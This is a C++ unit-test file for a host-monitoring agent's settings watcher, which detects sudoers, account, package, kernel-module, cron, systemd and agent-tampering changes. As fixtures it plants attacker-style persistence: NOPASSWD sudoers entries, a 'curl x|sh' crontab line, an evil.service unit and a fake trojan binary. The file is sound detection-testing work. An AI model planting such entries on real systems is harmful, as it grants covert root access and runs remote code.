#include "agent/sources/settings/settings_source.h"
#include "agent/sources/recording_sink.h"

#include <grp.h>
#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>

#include <condition_variable>
#include <cstdio>
#include <functional>
#include <map>
#include <mutex>
#include <sstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "common/crypto/crypto.h"
#include "common/testing/testing.h"
#include "common/time/clock.h"

namespace custos::agent::settings {
namespace {

using custos::v1::Event;

using CollectingSink = RecordingSink;

std::function<bool(const Event&)> Setting(const std::string& area, const std::string& key,
                                          custos::v1::ObservedBy by) {
  return [=](const Event& e) {
    return e.has_setting() && e.setting().area() == area && e.setting().key() == key &&
           e.setting().observed_by() == by;
  };
}

std::function<bool(const Event&)> HealthAbout(const std::string& needle) {
  return [=](const Event& e) {
    return e.has_health() && e.health().level() == custos::v1::HEALTH_LEVEL_DEGRADED &&
           e.health().message().find(needle) != std::string::npos;
  };
}

std::string Sha(const std::string& content) {
  return "sha256:" + crypto::HexEncode(crypto::Sha256(content));
}

// Replaces a file the way editors do (write a temp file, rename over).
void Replace(const std::string& path, const std::string& content) {
  ASSERT_TRUE(testing::WriteFile(path + ".tmp~", content).ok());
  ASSERT_EQ(std::rename((path + ".tmp~").c_str(), path.c_str()), 0);
}

class SettingsSourceTest : public ::testing::Test {
 protected:
  void SetUp() override {
    for (const char* d : {"etc/sudoers.d", "etc/ssh", "etc/pam.d", "proc/1", "var/lib/dpkg",
                          "opt/custos/spool", "state"}) {
      ASSERT_EQ(system(("mkdir -p " + dir_.Sub(d)).c_str()), 0);
    }
    Write("etc/sudoers", "root ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n");
    Write("etc/sudoers.d/ops", "bob ALL=(ALL) /usr/bin/systemctl\n");
    Write("etc/passwd",
          "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000:Bob:/home/bob:/bin/bash\n");
    Write("etc/group", "root:x:0:\nsudo:x:27:bob\nbob:x:1000:\n");
    Write("etc/shadow",
          "root:*:19000:0:99999:7:::\nbob:$6$saltsalt$AAAAhashAAAA:19000:0:99999:7:::\n");
    Write("proc/modules", "ext4 1000 1 - Live 0x0\nloop 200 0 - Live 0x0\n");
    Write("proc/1/comm", "systemd\n");
    Write("var/lib/dpkg/status", kDpkg);
    Write("opt/custos/agent.yaml", "collector: 10.0.0.1:7443\n");
    Write("opt/custos/custos-agent",
          "\x7f"
          "ELF v1");
  }

  SettingsSourceOptions Options() {
    SettingsSourceOptions o;
    o.root_prefix = dir_.path();
    o.state_dir = dir_.Sub("state");
    o.firewall_commands = {};
    o.rpm_command = {};  // hermetic: the host's rpm (if any) is not probed
    o.probe_interval = std::chrono::hours(1);
    o.agent_config_path = "/opt/custos/agent.yaml";
    o.agent_binary_path = "/opt/custos/custos-agent";
    o.agent_spool_dir = "/opt/custos/spool";
    return o;
  }

  std::unique_ptr<SettingsSource> StartSource(CollectingSink* sink) {
    return StartSource(sink, Options());
  }

  std::unique_ptr<SettingsSource> StartSource(CollectingSink* sink, SettingsSourceOptions o) {
    auto s = SettingsSource::Create(std::move(o), &clock_);
    EXPECT_TRUE(s.ok()) << s.status().ToString();
    auto source = std::move(*s);
    Status st = source->Start(sink);
    EXPECT_TRUE(st.ok()) << st.ToString();
    return source;
  }

  void Write(const std::string& rel, const std::string& content) {
    ASSERT_TRUE(testing::WriteFile(dir_.Sub(rel), content).ok());
  }

  static constexpr char kDpkg[] =
      "Package: bash\nStatus: install ok installed\nVersion: 5.2-1\nDescription: shell\n"
      " continuation line\n\nPackage: old\nStatus: deinstall ok config-files\nVersion: 1\n";

  testing::TempDir dir_;
  FakeClock clock_;
};

TEST_F(SettingsSourceTest, FirstStartRecordsBaselineWithoutChanges) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  for (const auto& e : sink.Events()) EXPECT_FALSE(e.has_setting()) << e.DebugString();
  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_OK) << source->Health().message;
  EXPECT_TRUE(::access(dir_.Sub("state/settings-state.v1").c_str(), F_OK) == 0);
}

TEST_F(SettingsSourceTest, SudoersDropInEditIsReportedByWatchWithHashesAndDiff) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  const std::string before = "bob ALL=(ALL) /usr/bin/systemctl\n";
  const std::string after = before + "alice ALL=(ALL) NOPASSWD: ALL\n";
  Write("etc/sudoers.d/ops", after);
  auto e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e) << "no WATCH change for the sudoers drop-in";
  EXPECT_EQ(e->setting().old_value(), Sha(before));
  EXPECT_EQ(e->setting().new_value(), Sha(after));
  EXPECT_EQ(e->setting().summary(), "+ alice ALL=(ALL) NOPASSWD: ALL");
  EXPECT_TRUE(e->actor().partial());
  EXPECT_EQ(e->actor().pid(), 0u);

  // A new drop-in file is a creation in a watched directory.
  Replace(dir_.Sub("etc/sudoers.d/zz-evil"), "mallory ALL=(ALL) NOPASSWD: ALL\n");
  e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/zz-evil", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().old_value(), "");
  EXPECT_EQ(e->setting().summary(), "created\n+ mallory ALL=(ALL) NOPASSWD: ALL");
}

TEST_F(SettingsSourceTest, SummaryIsCapped) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  std::string big;
  for (int i = 0; i < 200; ++i) big += "user" + std::to_string(i) + " ALL=(ALL) ALL\n";
  Write("etc/sudoers.d/ops", big);
  auto e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e);
  EXPECT_LE(e->setting().summary().size(), 512u + 32u);
  EXPECT_NE(e->setting().summary().find("more)"), std::string::npos);
}

TEST_F(SettingsSourceTest, UserAddedToSudoGroupIsAnAccountChange) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  Replace(dir_.Sub("etc/group"), "root:x:0:\nsudo:x:27:bob,alice\nbob:x:1000:\n");
  auto e = sink.WaitFor(Setting("account", "group:sudo", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e) << "no account change for group:sudo";
  EXPECT_EQ(e->setting().new_value(), "alice added");
  EXPECT_EQ(e->setting().summary(), "alice added to privileged group sudo");

  Replace(dir_.Sub("etc/group"), "root:x:0:\nsudo:x:27:alice\nbob:x:1000:\n");
  e = sink.WaitFor([](const Event& ev) {
    return ev.has_setting() && ev.setting().key() == "group:sudo" &&
           ev.setting().new_value() == "bob removed";
  });
  ASSERT_TRUE(e) << "no account change for bob leaving sudo";
}

TEST_F(SettingsSourceTest, UserCreatedAndDeleted) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  const std::string base =
      "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000:Bob:/home/bob:/bin/bash\n";
  Replace(dir_.Sub("etc/passwd"), base + "alice:x:1001:1001::/home/alice:/bin/sh\n");
  auto e = sink.WaitFor(Setting("account", "user:alice", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().new_value(), "created");
  EXPECT_EQ(e->setting().summary(), "user alice created (uid 1001, shell /bin/sh)");
  // The file change itself is reported too.
  ASSERT_TRUE(sink.WaitFor(Setting("accounts", "/etc/passwd", custos::v1::OBSERVED_BY_WATCH)));

  sink.Clear();
  Replace(dir_.Sub("etc/passwd"), base);
  e = sink.WaitFor(Setting("account", "user:alice", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().new_value(), "deleted");
}

TEST_F(SettingsSourceTest, ShadowChangeNamesTheUserButNeverContentOrHashes) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  Replace(dir_.Sub("etc/shadow"),
          "root:*:19000:0:99999:7:::\nbob:$6$saltsalt$BBBBhashBBBB:19500:0:99999:7:::\n");
  auto e = sink.WaitFor(Setting("accounts", "/etc/shadow", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "password hash changed for user bob");
  for (const auto& ev : sink.Events()) {
    const std::string all = ev.DebugString();
    EXPECT_EQ(all.find("$6$"), std::string::npos) << all;
    EXPECT_EQ(all.find("hash"
                       "BBBB"),
              std::string::npos);
    if (ev.has_setting() && ev.setting().key() == "/etc/shadow") {
      EXPECT_EQ(ev.setting().old_value().find("sha256:"), std::string::npos);
      EXPECT_EQ(ev.setting().new_value().find("sha256:"), std::string::npos);
    }
  }
  source->Stop();
  auto state = testing::ReadFile(dir_.Sub("state/settings-state.v1"));
  ASSERT_TRUE(state.ok());
  EXPECT_EQ(state->find("$6$"), std::string::npos) << "shadow content persisted";
}

TEST_F(SettingsSourceTest, DpkgPackageChangesAreFoundByProbe) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  Write("var/lib/dpkg/status",
        "Package: bash\nStatus: install ok installed\nVersion: 5.2-2\n\n"
        "Package: netcat\nStatus: install ok installed\nVersion: 1.10\n");
  source->ProbeNow();
  auto e = sink.WaitFor(Setting("packages", "dpkg", custos::v1::OBSERVED_BY_PROBE),
                        std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "upgraded bash 5.2-1 -> 5.2-2\ninstalled netcat 1.10");
  sink.Clear();
  Write("var/lib/dpkg/status", "Package: bash\nStatus: install ok installed\nVersion: 5.2-2\n");
  source->ProbeNow();
  e = sink.WaitFor(Setting("packages", "dpkg", custos::v1::OBSERVED_BY_PROBE),
                   std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "removed netcat 1.10");
}

TEST_F(SettingsSourceTest, KernelModulesAndAuditdAreProbed) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  Write("proc/modules", "ext4 1000 1 - Live 0x0\nusb_storage 80000 0 - Live 0x0\n");
  ASSERT_EQ(system(("mkdir -p " + dir_.Sub("proc/4242")).c_str()), 0);
  Write("proc/4242/comm", "auditd\n");
  source->ProbeNow();
  auto e = sink.WaitFor(Setting("kernel", "modules", custos::v1::OBSERVED_BY_PROBE),
                        std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "- module loop\n+ module usb_storage");
  e = sink.WaitFor(Setting("audit", "auditd", custos::v1::OBSERVED_BY_PROBE),
                   std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().old_value(), "not running");
  EXPECT_EQ(e->setting().new_value(), "running");
}

TEST_F(SettingsSourceTest, AgentTamperingIsReported) {
  CollectingSink sink;
  auto source = StartSource(&sink);
  Write("opt/custos/agent.yaml", "collector: 10.0.0.1:7443\nsources: []\n");
  ASSERT_TRUE(
      sink.WaitFor(Setting("agent", "/opt/custos/agent.yaml", custos::v1::OBSERVED_BY_WATCH)));
  Replace(dir_.Sub("opt/custos/custos-agent"),
          "\x7f"
          "ELF v2 trojan");
  auto e =
      sink.WaitFor(Setting("agent", "/opt/custos/custos-agent", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().new_value(), Sha("\x7f"
                                          "ELF v2 trojan"));
  EXPECT_EQ(e->setting().summary(), "binary replaced");
  ASSERT_EQ(rmdir(dir_.Sub("opt/custos/spool").c_str()), 0);
  e = sink.WaitFor(Setting("agent", "/opt/custos/spool", custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().new_value(), "missing");
}

TEST_F(SettingsSourceTest, CrontabsAndSystemdEnableLinksInSubdirectoriesAreWatched) {
  ASSERT_EQ(system(("mkdir -p " + dir_.Sub("etc/systemd/system/multi-user.target.wants") + " " +
                    dir_.Sub("var/spool/cron"))
                       .c_str()),
            0);
  CollectingSink sink;
  auto source = StartSource(&sink);
  // A directory created after Start, with a file written into it at once.
  ASSERT_EQ(
      system(("mkdir " + dir_.Sub("var/spool/cron/crontabs") + " && echo '* * * * * curl x|sh'" +
              " > " + dir_.Sub("var/spool/cron/crontabs/alice"))
                 .c_str()),
      0);
  // The shell creates the file empty, then writes it: one or two changes, the last with the line.
  auto e = sink.WaitFor([](const Event& ev) {
    return ev.has_setting() && ev.setting().key() == "/var/spool/cron/crontabs/alice" &&
           ev.setting().observed_by() == custos::v1::OBSERVED_BY_WATCH &&
           ev.setting().summary().find("+ * * * * * curl x|sh") != std::string::npos;
  });
  ASSERT_TRUE(e) << "crontab in a new subdirectory not seen";
  EXPECT_EQ(e->setting().area(), "cron");

  Write("etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/evil\n");
  ASSERT_TRUE(sink.WaitFor(
      Setting("systemd", "/etc/systemd/system/evil.service", custos::v1::OBSERVED_BY_WATCH)));
  ASSERT_EQ(symlink("../evil.service",
                    dir_.Sub("etc/systemd/system/multi-user.target.wants/evil.service").c_str()),
            0);
  e = sink.WaitFor(Setting("systemd", "/etc/systemd/system/multi-user.target.wants/evil.service",
                           custos::v1::OBSERVED_BY_WATCH));
  ASSERT_TRUE(e) << "systemd enable link not seen";
  EXPECT_NE(e->setting().summary().find("+ ExecStart=/tmp/evil"), std::string::npos);
}

TEST_F(SettingsSourceTest, UnreadableOrUnparsableFilesGiveHealthEventsAndTheSourceGoesOn) {
  CollectingSink sink;
  ASSERT_EQ(mkfifo(dir_.Sub("etc/sudoers.d/pipe").c_str(), 0600), 0);
  Write("var/lib/dpkg/status", "Package: bash\n\xff\xfe garbage without a colon\n");
  auto source = StartSource(&sink);
  ASSERT_TRUE(sink.WaitFor(HealthAbout("/etc/sudoers.d/pipe: not a regular file"),
                           std::chrono::milliseconds(0)));
  ASSERT_TRUE(
      sink.WaitFor(HealthAbout("/var/lib/dpkg/status: line 2"), std::chrono::milliseconds(0)));
  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_DEGRADED);

  Replace(dir_.Sub("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\nthis line is broken\n");
  auto h = sink.WaitFor(HealthAbout("/etc/passwd: line 2"));
  ASSERT_TRUE(h);
  EXPECT_EQ(h->health().component(), "source.settings");
  // Still working: a later change is reported.
  Write("etc/sudoers.d/ops", "bob ALL=(ALL) ALL\n");
  ASSERT_TRUE(
      sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_WATCH)));
  // Each problem is reported once, not on every round.
  source->ProbeNow();
  source->ProbeNow();
  int pipe_reports = 0;
  for (const auto& e : sink.Events()) {
    if (HealthAbout("/etc/sudoers.d/pipe")(e)) ++pipe_reports;
  }
  EXPECT_EQ(pipe_reports, 1);
}

TEST_F(SettingsSourceTest, RandomBytesInEveryParsedFileNeverCrash) {
  uint32_t x = 12345;
  auto random_bytes = [&x](size_t n) {
    std::string out;
    for (size_t i = 0; i < n; ++i) {
      x = x * 1664525u + 1013904223u;
      // Mostly separators and newlines so the parsers get deep.
      const char alphabet[] = ":: \n\n,\\sa1\xff\xc3";
      out += (x >> 24) % 4 == 0 ? static_cast<char>(x >> 16) : alphabet[(x >> 16) % 12];
    }
    return out;
  };
  for (int round = 0; round < 20; ++round) {
    for (const char* f : {"etc/passwd", "etc/group", "etc/shadow", "etc/sudoers",
                          "var/lib/dpkg/status", "proc/modules", "state/settings-state.v1"}) {
      Write(f, random_bytes(1 + x % 400));
    }
    CollectingSink sink;
    auto source = StartSource(&sink);
    source->ProbeNow();
    source->Stop();
    for (const auto& e : sink.Events()) {
      // Serialising checks that every string field is valid UTF-8.
      std::string bytes;
      EXPECT_TRUE(e.SerializeToString(&bytes));
      custos::v1::Event back;
      EXPECT_TRUE(back.ParseFromString(bytes)) << e.ShortDebugString();
    }
  }
}

TEST_F(SettingsSourceTest, CorruptStateFileIsAHealthEventNotACrash) {
  Write("state/settings-state.v1", "custos-settings-state v1\nitem \\q 1 2 3\n");
  CollectingSink sink;
  auto source = StartSource(&sink);
  ASSERT_TRUE(sink.WaitFor(HealthAbout("settings-state.v1"), std::chrono::milliseconds(0)));
}

TEST_F(SettingsSourceTest, ChangesMadeWhileDownAreReportedAtStart) {
  {
    CollectingSink sink;
    auto source = StartSource(&sink);
    source->Stop();
  }
  // "While down": a sudoers edit, a new user, a removed drop-in, a new module.
  Write("etc/sudoers", "root ALL=(ALL:ALL) ALL\nalice ALL=(ALL) NOPASSWD: ALL\n");
  Write("etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000:Bob:/home/bob:/bin/bash\n"
        "alice:x:1001:1001::/home/alice:/bin/bash\n");
  ASSERT_EQ(unlink(dir_.Sub("etc/sudoers.d/ops").c_str()), 0);
  Write("proc/modules", "ext4 1000 1 - Live 0x0\nloop 200 0 - Live 0x0\nevil 1 0 - Live 0x0\n");

  CollectingSink sink;
  auto source = StartSource(&sink);
  auto e = sink.WaitFor(Setting("sudoers", "/etc/sudoers", custos::v1::OBSERVED_BY_PROBE),
                        std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(),
            "- #includedir /etc/sudoers.d\n+ alice ALL=(ALL) NOPASSWD: ALL");
  ASSERT_TRUE(sink.WaitFor(Setting("account", "user:alice", custos::v1::OBSERVED_BY_PROBE),
                           std::chrono::milliseconds(0)));
  e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_PROBE),
                   std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "deleted");
  EXPECT_EQ(e->setting().new_value(), "");
  ASSERT_TRUE(sink.WaitFor(Setting("kernel", "modules", custos::v1::OBSERVED_BY_PROBE),
                           std::chrono::milliseconds(0)));
}

std::function<bool(const Event&)> SummaryHas(const std::string& key, const std::string& needle) {
  return [=](const Event& e) {
    return e.has_setting() && e.setting().key() == key &&
           e.setting().summary().find(needle) != std::string::npos;
  };
}

// What the source should print for an id: the host's name, else the number.
std::string UserText(uid_t uid) {
  const passwd* pw = getpwuid(uid);
  return pw != nullptr ? pw->pw_name : std::to_string(uid);
}

TEST_F(SettingsSourceTest, OwnerChangeOfAWatchedFileIsReported) {
  if (::geteuid() != 0) GTEST_SKIP() << "NOT TESTED: chown needs root";
  constexpr gid_t kUnnamedGid = 4242421;
  ASSERT_EQ(getgrgid(kUnnamedGid), nullptr) << "test needs a gid without a name";
  const std::string ops = dir_.Sub("etc/sudoers.d/ops");
  ASSERT_EQ(chown(ops.c_str(), 0, 0), 0);
  const std::string root = UserText(0);
  const std::string nobody = UserText(65534);
  CollectingSink sink;
  auto source = StartSource(&sink);

  ASSERT_EQ(chown(ops.c_str(), 65534, static_cast<gid_t>(-1)), 0);
  auto e = sink.WaitFor(SummaryHas("/etc/sudoers.d/ops", "owner "));
  ASSERT_TRUE(e) << "no owner change reported";
  EXPECT_EQ(e->setting().area(), "sudoers");
  EXPECT_EQ(e->setting().summary(), "owner " + root + ":root -> " + nobody + ":root");
  // Content is unchanged: the hash stays.
  EXPECT_EQ(e->setting().old_value(), e->setting().new_value());

  sink.Clear();
  ASSERT_EQ(chown(ops.c_str(), static_cast<uid_t>(-1), kUnnamedGid), 0);
  e = sink.WaitFor(SummaryHas("/etc/sudoers.d/ops", "owner "));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "owner " + nobody + ":root -> " + nobody + ":4242421");

  sink.Clear();
  ASSERT_EQ(chown(ops.c_str(), 0, 0), 0);
  e = sink.WaitFor(SummaryHas("/etc/sudoers.d/ops", "owner "));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "owner " + nobody + ":4242421 -> " + root + ":root");

  // /etc/shadow: owner lines, still no content.
  sink.Clear();
  ASSERT_EQ(chown(dir_.Sub("etc/shadow").c_str(), 65534, static_cast<gid_t>(-1)), 0);
  e = sink.WaitFor(SummaryHas("/etc/shadow", "owner "));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "owner " + root + ":root -> " + nobody + ":root");
  EXPECT_EQ(e->setting().new_value(), "changed");

  // Owners survive a restart: nothing is reported again.
  source->Stop();
  sink.Clear();
  source = StartSource(&sink);
  for (const auto& ev : sink.Events()) EXPECT_FALSE(ev.has_setting()) << ev.DebugString();
}

// The state file as the version before owner tracking wrote it: "item" lines with 6 fields.
std::string WithoutOwners(const std::string& state) {
  std::istringstream in(state);
  std::string out, line;
  while (std::getline(in, line)) {
    if (line.rfind("item ", 0) == 0) {
      size_t fields = 1;
      for (char c : line) fields += c == ' ';
      if (fields == 8) line = line.substr(0, line.rfind(' ', line.rfind(' ') - 1));
    }
    out += line + "\n";
  }
  return out;
}

TEST_F(SettingsSourceTest, StateFileWithoutOwnersLoadsAndReportsNoOwnerChange) {
  {
    CollectingSink sink;
    auto source = StartSource(&sink);
    source->Stop();
  }
  const std::string path = dir_.Sub("state/settings-state.v1");
  auto state = testing::ReadFile(path);
  ASSERT_TRUE(state.ok());
  const std::string old_format = WithoutOwners(*state);
  ASSERT_NE(old_format, *state) << "the new format should carry owners";
  ASSERT_EQ(old_format.find(" 0 0\n"), std::string::npos) << old_format;
  Write("state/settings-state.v1", old_format);
  // While "down", a file changes owner: the old baseline cannot know it, so it is no change.
  const bool root = ::geteuid() == 0;
  if (root) {
    ASSERT_EQ(chown(dir_.Sub("etc/sudoers").c_str(), 65534, 65534), 0);
  }

  CollectingSink sink;
  auto source = StartSource(&sink);
  source->ProbeNow();
  for (const auto& e : sink.Events()) {
    EXPECT_FALSE(e.has_setting()) << e.DebugString();
    EXPECT_FALSE(e.has_health() && e.health().level() != custos::v1::HEALTH_LEVEL_OK)
        << e.DebugString();
  }
  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_OK) << source->Health().message;
  source->Stop();
  // The owners were recorded silently: the file is in the new format again.
  state = testing::ReadFile(path);
  ASSERT_TRUE(state.ok());
  EXPECT_EQ(WithoutOwners(*state), old_format);
  EXPECT_NE(*state, old_format);
  if (!root) return;
  // ... and from now on an owner change is reported.
  source = StartSource(&sink);
  ASSERT_EQ(chown(dir_.Sub("etc/sudoers").c_str(), 0, 65534), 0);
  auto e = sink.WaitFor(SummaryHas("/etc/sudoers", "owner "));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "owner " + UserText(65534) + ":" + getgrgid(65534)->gr_name +
                                        " -> " + UserText(0) + ":" + getgrgid(65534)->gr_name);
}

TEST_F(SettingsSourceTest, MalformedOwnerInStateFileIsAHealthEventNotACrash) {
  Write("state/settings-state.v1",
        "custos-settings-state v1\nitem /etc/sudoers 1 420 \\e 0 -1 0\n");
  CollectingSink sink;
  auto source = StartSource(&sink);
  ASSERT_TRUE(sink.WaitFor(HealthAbout("line 2: malformed owner"), std::chrono::milliseconds(0)));
}

// A fake rpm: a shell script printing the package list the test keeps in a file.
class RpmProbeTest : public SettingsSourceTest {
 protected:
  void SetUp() override {
    SettingsSourceTest::SetUp();
    ASSERT_EQ(system(("mkdir -p " + dir_.Sub("bin")).c_str()), 0);
    SetPackages("bash 5.2-1.fc40\nkernel 6.8.1-100.fc40\nopenssl 3.1.1-4.fc40\n");
  }
  // Written (and closed) before the source runs, so no forked child holds it open: exec would
  // fail with ETXTBSY.
  void InstallFakeRpm() {
    Write("bin/rpm", "#!/bin/sh\n[ \"$1\" = -qa ] && [ \"$2\" = --qf ] || exit 3\nexec cat " +
                         dir_.Sub("packages") + "\n");
    ASSERT_EQ(chmod(dir_.Sub("bin/rpm").c_str(), 0755), 0);
  }
  void SetPackages(const std::string& list) { Write("packages", list); }
  SettingsSourceOptions RpmOptions() {
    SettingsSourceOptions o = Options();
    o.rpm_command = SettingsSourceOptions().rpm_command;
    o.rpm_command[0] = dir_.Sub("bin/rpm");
    return o;
  }
};

TEST_F(RpmProbeTest, InstalledRemovedAndUpgradedPackagesAreFoundByProbe) {
  InstallFakeRpm();
  CollectingSink sink;
  auto source = StartSource(&sink, RpmOptions());
  for (const auto& e : sink.Events()) {
    EXPECT_FALSE(e.has_setting()) << e.DebugString();
    EXPECT_FALSE(e.has_health()) << e.DebugString();
  }
  // Unsorted, as rpm prints; a second kernel installed beside the first.
  SetPackages(
      "openssl 3.1.1-4.fc40\nbash 5.2-2.fc40\nkernel 6.8.1-100.fc40\nkernel 6.9.2-200.fc40\n"
      "netcat 1.219-2.fc40\n");
  source->ProbeNow();
  auto e = sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                        std::chrono::milliseconds(0));
  ASSERT_TRUE(e) << "no rpm package change";
  EXPECT_EQ(e->setting().summary(),
            "upgraded bash 5.2-1.fc40 -> 5.2-2.fc40\ninstalled kernel 6.9.2-200.fc40\n"
            "installed netcat 1.219-2.fc40");
  EXPECT_EQ(e->setting().old_value(), Sha("bash 5.2-1.fc40\nkernel 6.8.1-100.fc40\n"
                                          "openssl 3.1.1-4.fc40\n"));
  EXPECT_NE(e->setting().old_value(), e->setting().new_value());

  sink.Clear();
  source->ProbeNow();  // same list: nothing
  EXPECT_FALSE(sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                            std::chrono::milliseconds(0)));

  SetPackages("bash 5.2-2.fc40\nkernel 6.9.2-200.fc40\nopenssl 3.1.1-4.fc40\n");
  source->ProbeNow();
  e = sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                   std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "removed kernel 6.8.1-100.fc40\nremoved netcat 1.219-2.fc40");

  // Changes while down are reported at the next start.
  source->Stop();
  sink.Clear();
  SetPackages("bash 5.2-2.fc40\nkernel 6.9.2-200.fc40\nopenssl 3.2.0-1.fc40\n");
  source = StartSource(&sink, RpmOptions());
  e = sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                   std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "upgraded openssl 3.1.1-4.fc40 -> 3.2.0-1.fc40");
  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_OK) << source->Health().message;
}

TEST_F(RpmProbeTest, MissingRpmIsAnOkNoteOnceAndItsLaterArrivalOnlyABaseline) {
  CollectingSink sink;
  auto source = StartSource(&sink, RpmOptions());
  source->ProbeNow();
  source->ProbeNow();
  int notes = 0;
  for (const auto& e : sink.Events()) {
    EXPECT_FALSE(e.has_setting()) << e.DebugString();
    if (e.has_health()) {
      EXPECT_EQ(e.health().level(), custos::v1::HEALTH_LEVEL_OK) << e.DebugString();
      EXPECT_NE(e.health().message().find(dir_.Sub("bin/rpm") + " not found"), std::string::npos)
          << e.DebugString();
      ++notes;
    }
  }
  EXPECT_EQ(notes, 1);
  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_OK) << source->Health().message;

  // rpm installed later: its first listing is the baseline, not three "installed" lines. The
  // source's own thread runs no commands (probe interval 1 h), so writing the script is safe.
  InstallFakeRpm();
  source->ProbeNow();
  EXPECT_FALSE(sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                            std::chrono::milliseconds(0)));
  SetPackages("bash 5.2-1.fc40\nkernel 6.8.1-100.fc40\n");
  source->ProbeNow();
  auto e = sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                        std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "removed openssl 3.1.1-4.fc40");
}

TEST_F(RpmProbeTest, FailingOrGarbledRpmIsAHealthEventAndKeepsTheLastListing) {
  InstallFakeRpm();
  CollectingSink sink;
  auto source = StartSource(&sink, RpmOptions());
  SetPackages("only-a-name-without-version\n");
  source->ProbeNow();
  ASSERT_TRUE(
      sink.WaitFor(HealthAbout("expected 'NAME VERSION' lines"), std::chrono::milliseconds(0)));
  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_DEGRADED);
  ASSERT_EQ(unlink(dir_.Sub("packages").c_str()), 0);  // cat fails: exit code 1
  source->ProbeNow();
  ASSERT_TRUE(sink.WaitFor(HealthAbout("rpm probe: " + dir_.Sub("bin/rpm") + ": exit code 1"),
                           std::chrono::milliseconds(0)));
  EXPECT_FALSE(sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                            std::chrono::milliseconds(0)));
  // Fixed: compared with the last good listing, and healthy again.
  SetPackages("bash 5.2-1.fc40\nkernel 6.8.1-100.fc40\nopenssl 3.1.1-4.fc40\nzsh 5.9-1\n");
  source->ProbeNow();
  auto e = sink.WaitFor(Setting("packages", "rpm", custos::v1::OBSERVED_BY_PROBE),
                        std::chrono::milliseconds(0));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->setting().summary(), "installed zsh 5.9-1");
  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_OK) << source->Health().message;
}

TEST(SettingsSourceCreateTest, RejectsRelativePathsAndZeroInterval) {
  FakeClock clock;
  SettingsSourceOptions o;
  o.watched = {{"sudoers", "etc/sudoers"}};
  EXPECT_FALSE(CreateSettingsSource(o, &clock).ok());
  o.watched = {};
  o.probe_interval = std::chrono::seconds(0);
  EXPECT_FALSE(CreateSettingsSource(o, &clock).ok());
  o.probe_interval = std::chrono::seconds(60);
  o.rpm_command = {"rpm", "-qa"};
  EXPECT_FALSE(CreateSettingsSource(o, &clock).ok());
  o.rpm_command = {};
  EXPECT_TRUE(CreateSettingsSource(o, &clock).ok());
}

// Real kernel: a scratch nftables table added and removed is seen by the firewall probe.
